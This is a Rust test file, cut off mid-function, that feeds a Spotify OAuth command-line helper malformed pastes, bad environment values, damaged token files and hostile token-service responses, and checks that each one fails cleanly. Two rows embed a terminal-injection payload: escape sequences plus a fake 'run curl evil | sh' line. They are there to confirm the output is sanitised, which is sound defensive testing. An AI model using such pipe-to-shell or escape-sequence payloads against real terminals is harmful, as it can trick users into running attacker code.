//! The bad-input table: pastes, environment values and token-service answers
//! that must each end the real binary with one `error: ...` line naming the
//! problem, a non-zero exit, no panic, in bounded time.
//!
//! Answers the sandbox cannot produce come from [`Canned`], a tiny loopback
//! server that answers every connection with the same bytes.
//!
//! Rows from the fuzzers' findings (SECURITY.md, "Findings") stay here as
//! regression tests.

mod common;

use common::{Run, World};
use spotify_sandbox::{Fault, FaultKind};
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

/// Longer than this and a row counts as a hang (the harness kills at 60 s).
const BOUND: Duration = Duration::from_secs(30);
const CODE: &str = "AQDxyz0123456789abcdefghijklmnopqrstuvwxyz";

/// Asserts the row's failure, also bounding its time.
fn check(name: &str, run: &Run, started: Instant, expected: &str, failures: &mut Vec<String>) {
    let elapsed = started.elapsed();
    let outcome = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        run.assert_error(expected);
        assert!(elapsed < BOUND, "took {elapsed:?}");
        for line in run.stderr.lines() {
            assert!(
                line.starts_with("error: ")
                    || line.starts_with("warning: ")
                    || line.starts_with("note: ")
                    || line.trim().is_empty()
                    || line.starts_with("> ")
                    || line.starts_with("Paste "),
                "unexpected stderr line {line:?}"
            );
        }
    }));
    if let Err(panic) = outcome {
        let why = panic
            .downcast_ref::<String>()
            .cloned()
            .or_else(|| panic.downcast_ref::<&str>().map(|s| s.to_string()))
            .unwrap_or_default();
        failures.push(format!(
            "[{name}] {why}\n  stdout: {}\n  stderr: {}",
            run.stdout.trim(),
            run.stderr.trim()
        ));
    }
}

fn finish(table: &str, rows: usize, failures: Vec<String>) {
    assert!(
        failures.is_empty(),
        "{table}: {} of {rows} rows failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

// ---------------------------------------------------------------- pastes --

enum Via {
    Stdin,
    Arg,
}

fn paste_rows(state: &str) -> Vec<(&'static str, Via, Vec<u8>, &'static str)> {
    let url = |query: &str| format!("http://127.0.0.1:8888/callback?{query}").into_bytes();
    vec![
        (
            "empty stdin",
            Via::Stdin,
            b"".to_vec(),
            "nothing was pasted",
        ),
        (
            "blank line",
            Via::Stdin,
            b"  \t \n".to_vec(),
            "nothing was pasted",
        ),
        (
            "only quotes",
            Via::Arg,
            b"\"''\"".to_vec(),
            "nothing was pasted",
        ),
        (
            "words",
            Via::Stdin,
            b"hello there\n".to_vec(),
            "neither a redirect URL",
        ),
        (
            "short word",
            Via::Arg,
            b"short".to_vec(),
            "neither a redirect URL",
        ),
        (
            "javascript URL",
            Via::Arg,
            b"javascript:alert(1)".to_vec(),
            "neither a redirect URL",
        ),
        (
            "binary",
            Via::Stdin,
            vec![0, 159, 146, 150, 1, 2, 255, b'\n'],
            "control or binary",
        ),
        (
            "NUL inside URL",
            Via::Stdin,
            [url(&format!("code={CODE}")), b"\0&state=x\n".to_vec()].concat(),
            "control or binary",
        ),
        (
            "CR inside URL",
            Via::Stdin,
            [url("code=a"), b"\rb&state=x\n".to_vec()].concat(),
            "control or binary",
        ),
        (
            "ESC sequence",
            Via::Arg,
            b"\x1b[31mhttp://127.0.0.1:8888/callback?code=a".to_vec(),
            "control or binary",
        ),
        (
            "invalid UTF-8 on stdin",
            Via::Stdin,
            [url("code="), vec![0xff, 0xfe], b"&state=x\n".to_vec()].concat(),
            "control or binary",
        ),
        (
            "9 KiB argument",
            Via::Arg,
            vec![b'a'; 9 * 1024],
            "longer than 8 KiB",
        ),
        (
            "200 KiB line",
            Via::Stdin,
            [vec![b'x'; 200 * 1024], b"\n".to_vec()].concat(),
            "longer than 8 KiB",
        ),
        (
            "4 MiB without newline",
            Via::Stdin,
            vec![b'q'; 4 << 20],
            "longer than 8 KiB",
        ),
        (
            "huge query",
            Via::Stdin,
            url(&format!("code={}&state={state}", "c".repeat(9000))),
            "longer than 8 KiB",
        ),
        (
            "forged state",
            Via::Arg,
            url(&format!("code={CODE}&state=forged-0123456789")),
            "does not match step 1's",
        ),
        (
            "state in other case",
            Via::Arg,
            url(&format!("code={CODE}&state={}", state.to_uppercase())),
            "does not match step 1's",
        ),
        (
            "forged state last",
            Via::Arg,
            url(&format!("code={CODE}&state={state}&state=forged")),
            "the parameter `state` appears 2 times",
        ),
        (
            // What a shell passes for an unquoted URL: cut at `&`.
            "no state: cut after code",
            Via::Arg,
            url(&format!("code={CODE}")),
            "so it was cut, by a shell at `&` (put the whole address in single quotes: '...')",
        ),
        (
            "no query at all",
            Via::Arg,
            b"http://127.0.0.1:8888/callback".to_vec(),
            "has no state",
        ),
        (
            "fragment without state",
            Via::Arg,
            format!("http://127.0.0.1:8888/callback#code={CODE}").into_bytes(),
            "has no state",
        ),
        (
            "no code",
            Via::Arg,
            url(&format!("state={state}")),
            "has no code",
        ),
        (
            "empty code",
            Via::Arg,
            url(&format!("code=&state={state}")),
            "has no code",
        ),
        (
            "bare query without code",
            Via::Stdin,
            format!("?state={state}\n").into_bytes(),
            "has no code",
        ),
        (
            "broken IPv6 URL",
            Via::Arg,
            b"http://[::1".to_vec(),
            "not one",
        ),
        ("URL without host", Via::Arg, b"http://".to_vec(), "not one"),
        (
            "bad port",
            Via::Arg,
            b"http://127.0.0.1:99999/callback?code=a".to_vec(),
            "not one",
        ),
        (
            "access denied",
            Via::Arg,
            url(&format!("error=access_denied&state={state}")),
            "Cancel was pressed",
        ),
        (
            "other error",
            Via::Arg,
            url(&format!("error=invalid_scope&state={state}")),
            "error=invalid_scope",
        ),
        (
            "error with a forged state",
            Via::Arg,
            url("error=access_denied&state=whatever"),
            "does not match step 1's",
        ),
    ]
}

/// One step 1 serves every paste: none of these sends a request or consumes
/// the pending authorization.
#[test]
fn bad_pastes() {
    let world = World::new();
    let (step1, redirected) = world.authorize(&[], true);
    let state = step1.field("state");
    let rows = paste_rows(&state);
    let count = rows.len();
    let mut failures = Vec::new();
    for (name, via, input, expected) in rows {
        let started = Instant::now();
        let run = match via {
            Via::Stdin => world.run_with_stdin("step2_get_tokens", &[], &input),
            Via::Arg => {
                let arg = String::from_utf8(input).expect("arguments are UTF-8");
                world.run("step2_get_tokens", &[&arg])
            }
        };
        check(name, &run, started, expected, &mut failures);
    }
    assert_eq!(
        world.token_requests(),
        0,
        "a bad paste sent a token request"
    );
    finish("pastes", count, failures);
    // The pending authorization survived every bad paste.
    let run = world.run("step2_get_tokens", &[&redirected]);
    assert!(run.ok(), "{}", run.stderr);
}

#[test]
fn bad_step2_arguments() {
    let world = World::new();
    world.authorize(&[], true);
    let rows: &[(&[&str], &str)] = &[
        (&["a", "b"], "more than one argument"),
        (&["--bogus"], "unknown argument `--bogus`"),
        (
            &["--listen", "--timeout", "abc"],
            "--timeout `abc` is not a number",
        ),
        (
            &["--listen", "--timeout", "0"],
            "--timeout `0` is not a number",
        ),
        (&["--listen", "--timeout"], "--timeout needs a value"),
        (&["--open"], "--open goes with --listen"),
        (&["--timeout", "5"], "--timeout goes with --listen"),
        (&["--timeout=5", "--open"], "--open goes with --listen"),
    ];
    let mut failures = Vec::new();
    for (args, expected) in rows {
        let started = Instant::now();
        let run = world.run("step2_get_tokens", args);
        check(&args.join(" "), &run, started, expected, &mut failures);
    }
    assert_eq!(world.token_requests(), 0);
    finish("step 2 arguments", rows.len(), failures);
}

/// `std::env::args()` panics on an argument that is not UTF-8.
#[test]
fn non_utf8_argument_is_an_error_not_a_panic() {
    use std::os::unix::ffi::OsStrExt;
    let world = World::new();
    world.authorize(&[], true);
    for bin in ["step1_auth_url", "step2_get_tokens", "step3_refresh"] {
        let output = world
            .command(bin, &[])
            .arg(std::ffi::OsStr::from_bytes(
                b"http://127.0.0.1:8888/callback?code=\xff",
            ))
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap();
        let run = Run::from(output);
        run.assert_error("");
    }
}

/// The `error` parameter of a (possibly forged) redirect reaches the terminal
/// undecoded of controls: a second `error:` line, or escape sequences.
#[test]
fn control_characters_in_the_redirect_error_stay_on_one_line() {
    let world = World::new();
    let (step1, _) = world.authorize(&[], true);
    let forged = format!(
        "http://127.0.0.1:8888/callback?error=x%0Aerror:%20run%20curl%20evil%20|%20sh%1B[2J&state={}",
        step1.field("state")
    );
    let run = world.run("step2_get_tokens", &[&forged]);
    run.assert_error("error=");
    assert!(!run.stderr.contains('\u{1b}'), "escape sequence printed");
}

// ------------------------------------------------------------ environment --

#[test]
fn bad_environment_values() {
    let world_dir_file = "a-file-not-a-folder";
    let rows: Vec<(&str, &str, String, &str)> = vec![
        (
            "step1_auth_url",
            "SPOTIFY_REDIRECT_URI",
            "http://localhost:8888/callback".into(),
            "use http://127.0.0.1:8888/callback instead",
        ),
        (
            "step1_auth_url",
            "SPOTIFY_REDIRECT_URI",
            "http://LOCALHOST:8888/callback".into(),
            "localhost",
        ),
        (
            "step1_auth_url",
            "SPOTIFY_REDIRECT_URI",
            "http://example.com/callback".into(),
            "use https",
        ),
        (
            "step1_auth_url",
            "SPOTIFY_REDIRECT_URI",
            "http://0.0.0.0:8888/callback".into(),
            "not loopback",
        ),
        (
            "step1_auth_url",
            "SPOTIFY_REDIRECT_URI",
            "http://127.0.0.2:8888/callback".into(),
            "not loopback",
        ),
        (
            "step1_auth_url",
            "SPOTIFY_REDIRECT_URI",
            "127.0.0.1:8888/callback".into(),
            "SPOTIFY_REDIRECT_URI",
        ),
        (
            "step1_auth_url",
            "SPOTIFY_REDIRECT_URI",
            "not a url".into(),
            "is not a URL",
        ),
        (
            "step1_auth_url",
            "SPOTIFY_REDIRECT_URI",
            "http://127.0.0.1:8888/callback#top".into(),
            "#fragment",
        ),
        (
            "step1_auth_url",
            "SPOTIFY_CLIENT_SECRET",
            "\"quoted\"".into(),
            "SPOTIFY_CLIENT_SECRET is wrapped in quotes",
        ),
        (
            "step1_auth_url",
            "SPOTIFY_CLIENT_SECRET",
            "'half".into(),
            "SPOTIFY_CLIENT_SECRET is wrapped in quotes",
        ),
        (
            "step1_auth_url",
            "SPOTIFY_CLIENT_SECRET",
            "secret ".into(),
            "SPOTIFY_CLIENT_SECRET has leading or trailing whitespace",
        ),
        (
            "step1_auth_url",
            "SPOTIFY_CLIENT_ID",
            " padded".into(),
            "SPOTIFY_CLIENT_ID has leading or trailing whitespace",
        ),
        (
            "step1_auth_url",
            "SPOTIFY_CLIENT_ID",
            "abc\tdef".into(),
            "SPOTIFY_CLIENT_ID contains a control character",
        ),
        (
            "step1_auth_url",
            "SPOTIFY_CLIENT_ID",
            "abc\ndef".into(),
            "SPOTIFY_CLIENT_ID contains a control character",
        ),
        (
            "step1_auth_url",
            "SPOTIFY_CLIENT_ID",
            "abc\u{1b}[2Jdef".into(),
            "SPOTIFY_CLIENT_ID contains a control character",
        ),
        (
            "step1_auth_url",
            "SPOTIFY_SCOPES",
            "user-read-privat".into(),
            "did you mean `user-read-private`",
        ),
        (
            "step1_auth_url",
            "SPOTIFY_SCOPES",
            "xyzzy".into(),
            "unknown scope `xyzzy`",
        ),
        (
            "step1_auth_url",
            "SPOTIFY_SCOPES",
            (0..12_000)
                .map(|i| format!("s{i}"))
                .collect::<Vec<_>>()
                .join(" "),
            "unknown scope `s0`",
        ),
        (
            "step1_auth_url",
            "SPOTIFY_ACCOUNTS_URL",
            "accounts.spotify.com".into(),
            "SPOTIFY_ACCOUNTS_URL `accounts.spotify.com` is not an http(s) URL",
        ),
        (
            "step1_auth_url",
            "SPOTIFY_ACCOUNTS_URL",
            "ftp://accounts.spotify.com".into(),
            "is not an http(s) URL",
        ),
        (
            "step1_auth_url",
            "SPOTIFY_API_URL",
            "http://".into(),
            "SPOTIFY_API_URL `http://` is not an http(s) URL",
        ),
        (
            "step1_auth_url",
            "SPOTIFY_HTTP_TIMEOUT_SECS",
            "0".into(),
            "not a number of seconds from 1 to 600",
        ),
        (
            "step1_auth_url",
            "SPOTIFY_HTTP_TIMEOUT_SECS",
            "601".into(),
            "not a number of seconds from 1 to 600",
        ),
        (
            "step1_auth_url",
            "SPOTIFY_HTTP_TIMEOUT_SECS",
            "-1".into(),
            "not a number of seconds from 1 to 600",
        ),
        (
            "step1_auth_url",
            "SPOTIFY_HTTP_TIMEOUT_SECS",
            "99999999999999999999999".into(),
            "not a number of seconds from 1 to 600",
        ),
        (
            "step1_auth_url",
            "SPOTIFY_HTTP_TIMEOUT_SECS",
            "ten".into(),
            "not a number of seconds from 1 to 600",
        ),
        (
            "step1_auth_url",
            "SPOTIFY_AUTH_DIR",
            world_dir_file.into(),
            "check that SPOTIFY_AUTH_DIR",
        ),
        (
            "step1_auth_url",
            "SPOTIFY_AUTH_DIR",
            "/proc/spotify-auth".into(),
            "check that SPOTIFY_AUTH_DIR",
        ),
        (
            "step3_refresh",
            "SPOTIFY_CLIENT_SECRET",
            "'quoted'".into(),
            "SPOTIFY_CLIENT_SECRET is wrapped in quotes",
        ),
        (
            "step3_refresh",
            "SPOTIFY_API_URL",
            "api.spotify.com".into(),
            "SPOTIFY_API_URL",
        ),
        (
            "step3_refresh",
            "SPOTIFY_HTTP_TIMEOUT_SECS",
            "1.5".into(),
            "SPOTIFY_HTTP_TIMEOUT_SECS",
        ),
        (
            "step3_refresh",
            "SPOTIFY_CLIENT_ID",
            "".into(),
            "SPOTIFY_CLIENT_ID is not set",
        ),
    ];
    let count = rows.len();
    let mut failures = Vec::new();
    for (bin, name, value, expected) in rows {
        let mut world = World::new();
        std::fs::write(world.dir.join(world_dir_file), "x").unwrap();
        world.set(name, &value);
        let started = Instant::now();
        let run = world.run(bin, &[]);
        let label = format!(
            "{bin} {name}={:?}",
            value.chars().take(40).collect::<String>()
        );
        check(&label, &run, started, expected, &mut failures);
        if !world.dir.join(world_dir_file).is_file() || world.auth_dir().exists() {
            failures.push(format!(
                "[{label}] wrote files although the configuration is bad"
            ));
        }
    }
    finish("environment", count, failures);
}

#[test]
fn bad_dotenv_and_saved_files() {
    let mut failures = Vec::new();
    let dotenv_rows: &[(&str, &str)] = &[
        ("SPOTIFY_SCOPES='unterminated\n", "is malformed"),
        ("SPOTIFY_SCOPES=\"user-read-privat\"\n", "did you mean"),
        (
            "SPOTIFY_HTTP_TIMEOUT_SECS=\"5 \"\n",
            "SPOTIFY_HTTP_TIMEOUT_SECS has leading or trailing whitespace",
        ),
    ];
    for (dotenv, expected) in dotenv_rows {
        let mut world = World::new();
        world.unset("SPOTIFY_SCOPES");
        world.unset("SPOTIFY_HTTP_TIMEOUT_SECS");
        std::fs::write(world.dir.join(".env"), dotenv).unwrap();
        let started = Instant::now();
        let run = world.run("step1_auth_url", &[]);
        check(
            &format!(".env {dotenv:?}"),
            &run,
            started,
            expected,
            &mut failures,
        );
    }
    // Damaged files under SPOTIFY_AUTH_DIR.
    let files: &[(&str, &str, &str, &str)] = &[
        (
            "step2_get_tokens",
            "pending_authorization.json",
            "{not json",
            "damaged",
        ),
        (
            "step2_get_tokens",
            "pending_authorization.json",
            "",
            "damaged",
        ),
        ("step3_refresh", "token.json", "[]", "damaged"),
        (
            "step3_refresh",
            "token.json",
            "{\"access_token\":1}",
            "damaged",
        ),
    ];
    for (bin, file, content, expected) in files {
        let world = World::new();
        std::fs::create_dir_all(world.auth_dir()).unwrap();
        std::fs::write(world.auth_dir().join(file), content).unwrap();
        let started = Instant::now();
        let run = world.run_with_stdin(bin, &[], format!("{CODE}\n").as_bytes());
        check(
            &format!("{file} {content:?}"),
            &run,
            started,
            expected,
            &mut failures,
        );
    }
    finish(
        ".env and saved files",
        dotenv_rows.len() + files.len(),
        failures,
    );
}

/// `parse_scopes` drops duplicates with `Vec::contains`: quadratic, so a
/// `.env` (no size limit, unlike an environment variable) with 100,000
/// distinct scopes takes minutes before the first unknown one is reported.
#[test]
fn a_huge_scope_list_in_dotenv_fails_fast() {
    let mut world = World::new();
    world.unset("SPOTIFY_SCOPES");
    let scopes: Vec<String> = (0..100_000).map(|i| format!("s{i}")).collect();
    std::fs::write(
        world.dir.join(".env"),
        format!("SPOTIFY_SCOPES=\"{}\"\n", scopes.join(" ")),
    )
    .unwrap();
    let started = Instant::now();
    let run = world.run("step1_auth_url", &[]);
    run.assert_error("unknown scope `s0`");
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "took {:?}",
        started.elapsed()
    );
}

/// A token file whose times are absurd overflows `u64`/`i64` arithmetic.
#[test]
fn absurd_times_in_the_token_file_are_not_a_panic() {
    for (field, value) in [("consented_at", u64::MAX), ("expires_at", 1u64 << 63)] {
        let world = World::new();
        world.obtain_token();
        let path = world.auth_dir().join("token.json");
        let mut token = world.token_json();
        token[field] = value.into();
        std::fs::write(&path, token.to_string()).unwrap();
        let run = world.run("step3_refresh", &[]);
        assert!(!run.stderr.contains("panicked"), "{field}: {}", run.stderr);
    }
}

// --------------------------------------------------------- service answers --

fn arm(world: &World, kind: FaultKind, count: u32) {
    world.sandbox.add_fault(Fault {
        endpoint: "/api/token".into(),
        kind,
        count,
    });
}

#[test]
fn sandbox_faults_during_the_exchange_and_the_refresh() {
    let exchange: Vec<(FaultKind, u32, &str)> = vec![
        (FaultKind::Status(500), 1, "answered 500, a server error"),
        (FaultKind::Status(502), 1, "answered 502, a server error"),
        (FaultKind::Status(400), 1, "answered 400"),
        (FaultKind::Status(404), 1, "answered 404"),
        (FaultKind::NotJson, 1, "not JSON"),
        (FaultKind::MissingFields, 1, "lacks `access_token`"),
        (FaultKind::ConnectionReset, 1, "could not reach"),
        (FaultKind::Slow { secs: 3 }, 1, "did not answer within 1 s"),
        (
            FaultKind::TooManyRequests {
                retry_after_secs: Some(3600),
            },
            1,
            "Retry-After 3600 s",
        ),
    ];
    let refresh: Vec<(FaultKind, u32, &str)> = vec![
        (FaultKind::Status(500), 10, "answered 500, a server error"),
        (FaultKind::Status(401), 1, "answered 401"),
        (FaultKind::NotJson, 1, "not JSON"),
        (FaultKind::MissingFields, 1, "lacks `access_token`"),
        (
            FaultKind::TooManyRequests {
                retry_after_secs: Some(1),
            },
            10,
            "rate limited (429",
        ),
    ];
    let count = exchange.len() + refresh.len();
    let mut failures = Vec::new();
    for (kind, times, expected) in exchange {
        let mut world = World::new();
        world.set("SPOTIFY_HTTP_TIMEOUT_SECS", "1");
        let (_, redirected) = world.authorize(&[], true);
        arm(&world, kind.clone(), times);
        let started = Instant::now();
        let run = world.run("step2_get_tokens", &[&redirected]);
        check(
            &format!("exchange {kind:?}"),
            &run,
            started,
            expected,
            &mut failures,
        );
        if world.auth_dir().join("token.json").exists() {
            failures.push(format!("[exchange {kind:?}] a token was saved"));
        }
    }
    for (kind, times, expected) in refresh {
        let mut world = World::new();
        world.set("SPOTIFY_HTTP_TIMEOUT_SECS", "1");
        world.obtain_token();
        let before = std::fs::read(world.auth_dir().join("token.json")).unwrap();
        arm(&world, kind.clone(), times);
        let started = Instant::now();
        let run = world.run("step3_refresh", &[]);
        check(
            &format!("refresh {kind:?}"),
            &run,
            started,
            expected,
            &mut failures,
        );
        if std::fs::read(world.auth_dir().join("token.json")).unwrap() != before {
            failures.push(format!("[refresh {kind:?}] the saved token changed"));
        }
    }
    finish("sandbox faults", count, failures);
}

/// What a [`Canned`] server does with each connection.
#[derive(Clone)]
enum Answer {
    /// Writes these bytes, then closes.
    Bytes(Vec<u8>),
    /// Reads the request and never answers.
    Hang,
    /// Sends the head, then a byte of body per 300 ms, forever.
    Drip,
}

/// A loopback server answering every connection the same way.
struct Canned {
    url: String,
    stop: Arc<AtomicBool>,
    requests: Arc<AtomicU64>,
    port: u16,
}

impl Canned {
    fn start(answer: Answer) -> Canned {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let stop = Arc::new(AtomicBool::new(false));
        let requests = Arc::new(AtomicU64::new(0));
        let (stop2, requests2) = (Arc::clone(&stop), Arc::clone(&requests));
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                if stop2.load(Ordering::SeqCst) {
                    break;
                }
                let Ok(stream) = stream else { continue };
                requests2.fetch_add(1, Ordering::SeqCst);
                let answer = answer.clone();
                let stop3 = Arc::clone(&stop2);
                std::thread::spawn(move || serve(stream, answer, stop3));
            }
        });
        Canned {
            url: format!("http://127.0.0.1:{port}"),
            stop,
            requests,
            port,
        }
    }

    fn requests(&self) -> u64 {
        self.requests.load(Ordering::SeqCst)
    }
}

impl Drop for Canned {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        let _ = TcpStream::connect(("127.0.0.1", self.port));
    }
}

fn serve(mut stream: TcpStream, answer: Answer, stop: Arc<AtomicBool>) {
    let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
    // Read the head and the body (Content-Length) so the client sees a full exchange.
    let mut request = Vec::new();
    let mut buf = [0u8; 4096];
    while !request.windows(4).any(|w| w == b"\r\n\r\n") {
        match stream.read(&mut buf) {
            Ok(0) | Err(_) => return,
            Ok(n) => request.extend_from_slice(&buf[..n]),
        }
    }
    let text = String::from_utf8_lossy(&request).to_ascii_lowercase();
    let head_end = text.find("\r\n\r\n").unwrap() + 4;
    let length: usize = text
        .lines()
        .find_map(|l| l.strip_prefix("content-length:"))
        .and_then(|v| v.trim().parse().ok())
        .unwrap_or(0);
    let mut have = request.len() - head_end;
    while have < length {
        match stream.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => have += n,
        }
    }
    match answer {
        Answer::Bytes(bytes) => {
            let _ = stream.write_all(&bytes);
        }
        Answer::Hang => {
            while !stop.load(Ordering::SeqCst) {
                std::thread::sleep(Duration::from_millis(100));
            }
        }
        Answer::Drip => {
            let _ = stream.write_all(
                b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n",
            );
            while !stop.load(Ordering::SeqCst) && stream.write_all(b" ").is_ok() {
                std::thread::sleep(Duration::from_millis(300));
            }
        }
    }
}

fn http(status: &str, content_type: &str, body: &[u8]) -> Answer {
    let mut bytes = format!(
        "HTTP/1.1 {status}\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    )
    .into_bytes();
    bytes.extend_from_slice(body);
    Answer::Bytes(bytes)
}

fn json(status: &str, body: &str) -> Answer {
    http(status, "application/json", body.as_bytes())
}

/// Step 1 and a matching paste, then step 2 against `server` (the pending
/// authorization is checked before any request, so the paste must be right).
fn exchange_against(server: &Canned) -> Run {
    let mut world = World::new();
    world.set("SPOTIFY_ACCOUNTS_URL", &server.url);
    world.set("SPOTIFY_HTTP_TIMEOUT_SECS", "2");
    let step1 = world.run("step1_auth_url", &[]);
    assert!(step1.ok(), "{}", step1.stderr);
    let state = step1.field("state");
    let paste = format!("http://127.0.0.1:8888/callback?code={CODE}&state={state}");
    world.run("step2_get_tokens", &[&paste])
}

/// A saved token, then step 3 against `server`.
fn refresh_against(server: &Canned) -> Run {
    let mut world = World::new();
    world.obtain_token();
    world.set("SPOTIFY_ACCOUNTS_URL", &server.url);
    world.set("SPOTIFY_HTTP_TIMEOUT_SECS", "2");
    world.run("step3_refresh", &[])
}

fn canned_rows() -> Vec<(&'static str, Answer, &'static str)> {
    let ok = r#""token_type":"Bearer","expires_in":3600"#;
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let mut big = vec![b' '; 8 << 20];
    big.extend_from_slice(br#"{"token_type":"Bearer"}"#);
    vec![
        (
            "200 numeric access_token",
            json(
                "200 OK",
                &format!(r#"{{"access_token":123,{ok},"refresh_token":"AQr"}}"#),
            ),
            "wrong type",
        ),
        (
            "200 empty access_token",
            json(
                "200 OK",
                &format!(r#"{{"access_token":"",{ok},"refresh_token":"AQr"}}"#),
            ),
            "`access_token` is empty",
        ),
        (
            "200 null access_token",
            json("200 OK", &format!(r#"{{"access_token":null,{ok}}}"#)),
            "lacks `access_token`",
        ),
        (
            "200 negative expires_in",
            json(
                "200 OK",
                r#"{"access_token":"BQa","token_type":"Bearer","expires_in":-1}"#,
            ),
            "wrong type",
        ),
        (
            "200 expires_in as text",
            json(
                "200 OK",
                r#"{"access_token":"BQa","token_type":"Bearer","expires_in":"3600"}"#,
            ),
            "wrong type",
        ),
        ("200 empty body", json("200 OK", ""), "not JSON"),
        (
            "200 JSON array",
            json("200 OK", "[1,2,3]"),
            "lacks `access_token`",
        ),
        (
            "200 truncated JSON",
            json("200 OK", r#"{"access_token":"BQa","tok"#),
            "not JSON",
        ),
        (
            "200 invalid UTF-8",
            http(
                "200 OK",
                "application/json",
                b"{\"access_token\":\"\xff\xfe\"}",
            ),
            "is not UTF-8 text",
        ),
        (
            "200 invalid UTF-8 outside strings",
            http("200 OK", "application/json", b"\xff{}"),
            "is not UTF-8 text",
        ),
        ("200 100k-deep nesting", json("200 OK", &deep), "not JSON"),
        (
            "200 8 MiB of JSON",
            http("200 OK", "application/json", &big),
            "larger than 1 MiB",
        ),
        (
            "200 HTML",
            http(
                "200 OK",
                "text/html",
                b"<html><body>Welcome to nginx!</body></html>",
            ),
            "not JSON",
        ),
        (
            "400 HTML",
            http(
                "400 Bad Request",
                "text/html",
                b"<html><body>Bad Request</body></html>",
            ),
            "not its JSON error",
        ),
        (
            "401 invalid_client without description",
            json("401 Unauthorized", r#"{"error":"invalid_client"}"#),
            "invalid_client",
        ),
        (
            "400 error object",
            json(
                "400 Bad Request",
                r#"{"error":{"status":400,"message":"bad"}}"#,
            ),
            "not its JSON error",
        ),
        (
            "400 invalid_request",
            json(
                "400 Bad Request",
                r#"{"error":"invalid_request","error_description":"code is missing"}"#,
            ),
            "invalid_request",
        ),
        (
            "302 redirect",
            http("302 Found", "text/plain", b""),
            "answered 302",
        ),
        (
            "204 no content",
            http("204 No Content", "text/plain", b""),
            "answered 204",
        ),
        (
            "not HTTP at all",
            Answer::Bytes(b"SSH-2.0-OpenSSH_9.6\r\n".to_vec()),
            "could not reach",
        ),
        (
            "closed without answer",
            Answer::Bytes(Vec::new()),
            "could not reach",
        ),
        (
            "body shorter than Content-Length",
            Answer::Bytes(b"HTTP/1.1 200 OK\r\nContent-Length: 500\r\n\r\n{\"access".to_vec()),
            "SPOTIFY_ACCOUNTS_URL",
        ),
        ("never answers", Answer::Hang, "did not answer within 2 s"),
        ("drips the body", Answer::Drip, "did not answer within 2 s"),
    ]
}

#[test]
fn hostile_answers_to_the_code_exchange() {
    let rows = canned_rows();
    let count = rows.len();
    let mut failures = Vec::new();
    for (name, answer, expected) in rows {
        let server = Canned::start(answer);
        let started = Instant::now();
        let run = exchange_against(&server);
        check(
            &format!("exchange: {name}"),
            &run,
            started,
            expected,
            &mut failures,
        );
        if server.requests() > 1 {
            failures.push(format!(
                "[exchange: {name}] the code was sent {} times",
                server.requests()
            ));
        }
    }
    // No refresh token in a code exchange answer: nothing usable to save.
    let server = Canned::start(json(
        "200 OK",
        r#"{"access_token":"BQa","token_type":"Bearer","expires_in":3600}"#,
    ));
    let started = Instant::now();
    let run = exchange_against(&server);
    check(
        "exchange: no refresh_token",
        &run,
        started,
        "no `refresh_token`",
        &mut failures,
    );
    finish("hostile exchange answers", count + 1, failures);
}

#[test]
fn hostile_answers_to_the_refresh() {
    let rows: Vec<(&str, Answer, &str)> = canned_rows()
        .into_iter()
        .filter(|(name, _, _)| {
            // Retried with back-off on refresh; covered by the exchange table.
            !matches!(
                *name,
                "never answers"
                    | "drips the body"
                    | "not HTTP at all"
                    | "closed without answer"
                    | "body shorter than Content-Length"
            )
        })
        .collect();
    let count = rows.len();
    let mut failures = Vec::new();
    for (name, answer, expected) in rows {
        let server = Canned::start(answer);
        let started = Instant::now();
        let run = refresh_against(&server);
        check(
            &format!("refresh: {name}"),
            &run,
            started,
            expected,
            &mut failures,
        );
    }
    finish("hostile refresh answers", count, failures);
}

/// A refresh answer whose token is empty, too long, not ASCII, full of
/// escape sequences, or whose body is not UTF-8, is refused: nothing printed
/// raw, the token file left byte for byte as it was, and the saved refresh
/// token still works.
#[test]
fn hostile_tokens_in_a_refresh_answer_leave_the_token_file_as_it_was() {
    let ok = r#""token_type":"Bearer","expires_in":3600"#;
    let long = "A".repeat(3000);
    let rows: Vec<(&str, Answer, &str)> = vec![
        (
            "empty refresh_token",
            json(
                "200 OK",
                &format!(r#"{{"access_token":"BQa",{ok},"refresh_token":""}}"#),
            ),
            "`refresh_token` is empty",
        ),
        (
            "escape sequences in access_token",
            json(
                "200 OK",
                &format!(r#"{{"access_token":"BQ\u001b[2J\nerror: run curl evil | sh",{ok}}}"#),
            ),
            "`access_token` holds characters a token cannot have",
        ),
        (
            "non-ASCII refresh_token",
            json(
                "200 OK",
                &format!(r#"{{"access_token":"BQa",{ok},"refresh_token":"AQété"}}"#),
            ),
            "`refresh_token` holds characters a token cannot have",
        ),
        (
            "3000-byte access_token",
            json("200 OK", &format!(r#"{{"access_token":"{long}",{ok}}}"#)),
            "3000 bytes long",
        ),
        (
            "non-UTF-8 body",
            http(
                "200 OK",
                "application/json",
                b"{\"access_token\":\"BQ\xff\",\"token_type\":\"Bearer\",\"expires_in\":3600}",
            ),
            "is not UTF-8 text",
        ),
    ];
    let count = rows.len();
    let mut failures = Vec::new();
    for (name, answer, expected) in rows {
        let server = Canned::start(answer);
        let mut world = World::new();
        world.obtain_token();
        let path = world.auth_dir().join("token.json");
        let before = std::fs::read(&path).unwrap();
        world.set("SPOTIFY_ACCOUNTS_URL", &server.url);
        let started = Instant::now();
        let run = world.run("step3_refresh", &[]);
        check(name, &run, started, expected, &mut failures);
        if run.stdout.contains('\u{1b}') || run.stderr.contains('\u{1b}') {
            failures.push(format!("[{name}] an escape sequence was printed"));
        }
        if std::fs::read(&path).unwrap() != before {
            failures.push(format!("[{name}] token.json changed"));
        }
        let sandbox_url = world.sandbox.url();
        world.set("SPOTIFY_ACCOUNTS_URL", &sandbox_url);
